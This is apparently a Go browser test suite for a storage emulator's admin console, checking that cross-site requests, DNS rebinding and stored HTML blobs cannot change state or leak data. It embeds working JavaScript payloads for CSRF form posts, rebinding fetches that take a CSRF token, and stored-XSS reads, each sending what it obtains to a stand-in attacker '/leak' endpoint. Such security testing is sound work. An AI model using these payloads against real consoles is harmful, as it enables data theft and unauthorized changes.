package console_test

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/Azure/azure-sdk-for-go/sdk/storage/azblob/lease"
	cdpbrowser "github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"github.com/lazuli-storage/lazuli/lazulitest"
)

// attacker is another site: it serves the attack page and records what
// reaches it.
type attacker struct {
	*httptest.Server
	page  string
	mu    sync.Mutex
	leaks []string
}

// startAttacker serves on 127.0.0.2, another site than the admin
// listener's 127.0.0.1 to the browser, yet on this machine.
func startAttacker(t *testing.T) *attacker {
	t.Helper()
	a := &attacker{}
	ln, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skipf("no second loopback address to serve the other site on: %v", err)
	}
	a.Server = &httptest.Server{Listener: ln, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/attack":
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, a.page)
		case "/leak":
			body, _ := io.ReadAll(r.Body)
			a.mu.Lock()
			a.leaks = append(a.leaks, string(body))
			a.mu.Unlock()
		}
	})}}
	a.Start()
	t.Cleanup(a.Close)
	return a
}

// nothingReceived fails the test if anything reached the attacker, and
// forgets it.
func (a *attacker) nothingReceived(t *testing.T) {
	t.Helper()
	a.mu.Lock()
	defer a.mu.Unlock()
	for _, leak := range a.leaks {
		t.Errorf("the attacker received %.200q", leak)
	}
	a.leaks = nil
}

// victim is a server holding what an attacker wants: a secret blob, a
// leased blob, a queued message, a fault rule, a clock that stands still.
type victim struct {
	*lazulitest.Server
	secret string
	rule   lazulitest.Fault
	start  time.Time
}

func startVictim(t *testing.T) *victim {
	t.Helper()
	srv := lazulitest.Start(t, lazulitest.Options{Frozen: true})
	fill(t, srv)
	b := make([]byte, 16)
	_, _ = rand.Read(b)
	v := &victim{Server: srv, secret: "secret-" + hex.EncodeToString(b), start: srv.Now()}
	ctx := context.Background()
	bc := srv.BlobClient(t)
	if _, err := bc.CreateContainer(ctx, "private", nil); err != nil {
		t.Fatal(err)
	}
	if _, err := bc.UploadBuffer(ctx, "private", "secret.txt", []byte(v.secret), nil); err != nil {
		t.Fatal(err)
	}
	v.rule = srv.InjectFault(t, lazulitest.Fault{Operation: "SetBlobTier", Status: 503})
	return v
}

// untouched fails the test if anything the attack aimed at changed.
func (v *victim) untouched(t *testing.T) {
	t.Helper()
	if rules := v.Faults(); len(rules) != 1 || rules[0].ID != v.rule.ID {
		t.Errorf("fault rules changed: %+v", rules)
	}
	if now := v.Now(); !now.Equal(v.start) {
		t.Errorf("the clock moved from %v to %v", v.start, now)
	}
	ctx := context.Background()
	containers := v.BlobClient(t).ServiceClient()
	if _, err := containers.NewContainerClient("private").NewBlobClient("secret.txt").GetProperties(ctx, nil); err != nil {
		t.Errorf("the secret blob is gone: %v", err)
	}
	props, err := containers.NewContainerClient("photos").NewBlobClient("cat.jpg").GetProperties(ctx, nil)
	if err != nil || *props.LeaseState != lease.StateTypeLeased {
		t.Errorf("the leased blob lost its lease or is gone: %v", err)
	}
	peek, err := v.QueueClient(t).NewQueueClient("jobs").PeekMessages(ctx, nil)
	if err != nil || len(peek.Messages) != 1 {
		t.Errorf("the queue's visible message is gone: %v", err)
	}
}

// target is one admin or console route an attacker aims at.
type target struct {
	Method, Path string
}

// targets are every route that changes or reads something.
func targets() []target {
	sel := url.Values{"account": {lazulitest.Account}, "container": {"photos"}, "blob": {"cat.jpg"}, "queue": {"jobs"}}.Encode()
	secret := url.Values{"account": {lazulitest.Account}, "container": {"private"}, "blob": {"secret.txt"}}.Encode()
	return []target{
		{"POST", "/clock/advance?by=1h"}, {"POST", "/clock/pin?at=2031-01-01T00:00:00Z"}, {"POST", "/clock/release"},
		{"POST", "/faults"}, {"DELETE", "/faults"}, {"DELETE", "/faults/1"}, {"POST", "/reset"},
		{"POST", "/api/break-lease?" + sel}, {"POST", "/api/delete-blob?" + sel}, {"POST", "/api/clear-queue?" + sel},
		{"POST", "/api/rest/DELETE/blob/" + lazulitest.Account + "/private%2Fsecret.txt"}, {"POST", "/api/sas?" + secret + "&sp=r&se=2030-01-01T00:00:00Z"},
		{"GET", "/clock"}, {"GET", "/faults"}, {"GET", "/metrics"}, {"GET", "/csrf"}, {"GET", "/api/overview"},
		{"GET", "/api/blobs?" + sel}, {"GET", "/api/messages?" + sel}, {"GET", "/api/download?" + secret},
		{"GET", "/api/tree?" + sel}, {"GET", "/api/entities?" + sel + "&table=people"},
		{"GET", "/api/files?" + sel + "&share=docs"},
	}
}

// attackPage tries every target from another site: forms (text/plain and
// urlencoded) posted into frames, no-cors fetches, CORS fetches whose
// answers it would send home, and navigations to the account data and
// the secret's download (a tab each, so only two: every tab is a process).
const attackPage = `<!doctype html><title>attack</title><body><script>
const admin = ADMIN, targets = TARGETS;
const rule = '{"operation":"GetBlob","status":503}';
async function attack() {
  const pending = [];
  let n = 0;
  for (const t of targets) {
    const url = admin + t.Path;
    if (t.Method === "POST") {
      for (const enctype of ["text/plain", "application/x-www-form-urlencoded"]) {
        const frame = document.createElement("iframe");
        frame.name = "frame" + n++;
        document.body.appendChild(frame);
        pending.push(new Promise(done => frame.onload = done));
        const form = document.createElement("form");
        Object.assign(form, {method: "POST", action: url, enctype, target: frame.name});
        const input = document.createElement("input");
        Object.assign(input, {name: rule.slice(0, -1) + ',"x":"', value: '"}'});
        form.appendChild(input);
        document.body.appendChild(form);
        form.submit();
      }
      pending.push(fetch(url, {method: "POST", mode: "no-cors", credentials: "include", body: rule}).catch(() => {}));
    }
    if (t.Method === "DELETE") {
      pending.push(fetch(url, {method: "DELETE", credentials: "include"}).catch(() => {}));
    }
    if (t.Method === "GET") {
      pending.push(fetch(url, {credentials: "include"}).then(r => r.text())
        .then(text => fetch("/leak", {method: "POST", body: text})).catch(() => {}));
      if (t.Path === "/api/overview" || t.Path.startsWith("/api/download")) window.open(url);
    }
  }
  await Promise.all(pending);
  document.title = "attack done";
}
attack();
</script>`

// reboundScript runs as the page of a name rebound to 127.0.0.1 (the
// attacker's own origin to the browser): it takes the console's token if
// it can, tries every target with it and sends every answer home.
const reboundScript = `(async () => {
  const out = [];
  let token = "";
  try { token = (await (await fetch("/csrf")).json()).token || ""; } catch (e) {}
  for (const t of TARGETS) {
    const init = {method: t.Method};
    if (t.Method !== "GET") {
      init.headers = {"Content-Type": "application/json", "X-Lazuli-Csrf": token};
      if (t.Path === "/faults") init.body = '{"status":503}';
    }
    try {
      const r = await fetch(t.Path, init);
      const text = await r.text();
      out.push(r.status);
      if (r.ok) await fetch(LEAK, {method: "POST", mode: "no-cors", body: text});
    } catch (e) { out.push(String(e)); }
  }
  return out;
})()`

// storedPage is a blob a container writer stores as text/html, inline:
// opened through the console's download link, it would run in the
// console's origin and read another container's secret.
const storedPage = `<!doctype html><title>stored</title><script>
document.title = "script ran";
fetch(SECRET).then(r => r.text()).then(text => fetch(LEAK, {method: "POST", mode: "no-cors", body: text}));
</script>`

func jsString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// A page on another site, a DNS-rebound page and a stored HTML blob each
// try every route of the admin listener from a real browser, each against
// a server of its own: nothing changes and nothing reaches the attacker.
func TestAttackerPagesInBrowser(t *testing.T) {
	ctx := browser(t, chromedp.Flag("host-resolver-rules", "MAP rebind.test 127.0.0.1"))
	evil := startAttacker(t)
	all, _ := json.Marshal(targets())
	leak := jsString(evil.URL + "/leak")
	if err := chromedp.Run(ctx, cdpbrowser.SetDownloadBehavior(cdpbrowser.SetDownloadBehaviorBehaviorDeny)); err != nil {
		t.Fatal(err)
	}

	t.Run("other site", func(t *testing.T) {
		v := startVictim(t)
		evil.page = strings.NewReplacer("ADMIN", jsString(v.AdminURL), "TARGETS", string(all)).Replace(attackPage)
		if err := chromedp.Run(ctx, chromedp.Navigate(evil.URL+"/attack"),
			poll(`document.title === "attack done"`)); err != nil {
			t.Fatalf("the attack page did not finish: %v", err)
		}
		v.untouched(t)
		evil.nothingReceived(t)
	})

	// A rebound name's page is the attacker's origin at the admin
	// listener's address. Its script runs as that page's own: no CSP of
	// the listener's answer would apply to an attacker's page.
	t.Run("rebound name", func(t *testing.T) {
		v := startVictim(t)
		admin, _ := url.Parse(v.AdminURL)
		var statuses []any
		script := strings.NewReplacer("TARGETS", string(all), "LEAK", leak).Replace(reboundScript)
		if err := chromedp.Run(ctx, page.SetBypassCSP(true), chromedp.Navigate("http://rebind.test:"+admin.Port()+"/"),
			chromedp.Evaluate(script, &statuses, func(p *runtime.EvaluateParams) *runtime.EvaluateParams { return p.WithAwaitPromise(true) }),
			page.SetBypassCSP(false)); err != nil {
			t.Fatal(err)
		}
		for i, s := range statuses {
			if s != float64(http.StatusMisdirectedRequest) {
				t.Errorf("rebound %s %s: %v, want 421", targets()[i].Method, targets()[i].Path, s)
			}
		}
		v.untouched(t)
		evil.nothingReceived(t)
	})

	t.Run("stored blob", func(t *testing.T) {
		v := startVictim(t)
		stored := strings.NewReplacer("SECRET", jsString(downloadURL(v.Server, "private", "secret.txt")), "LEAK", leak).Replace(storedPage)
		uploadHTML(t, v.Server, "uploads", "page.html", stored)
		var title string
		_ = chromedp.Run(ctx, chromedp.Navigate(downloadURL(v.Server, "uploads", "page.html"))) // a download aborts the navigation
		if err := chromedp.Run(ctx, chromedp.Title(&title)); err != nil {
			t.Fatal(err)
		}
		if title == "script ran" {
			t.Error("the stored blob's script ran in the console's origin")
		}
		v.untouched(t)
		evil.nothingReceived(t)
	})
}
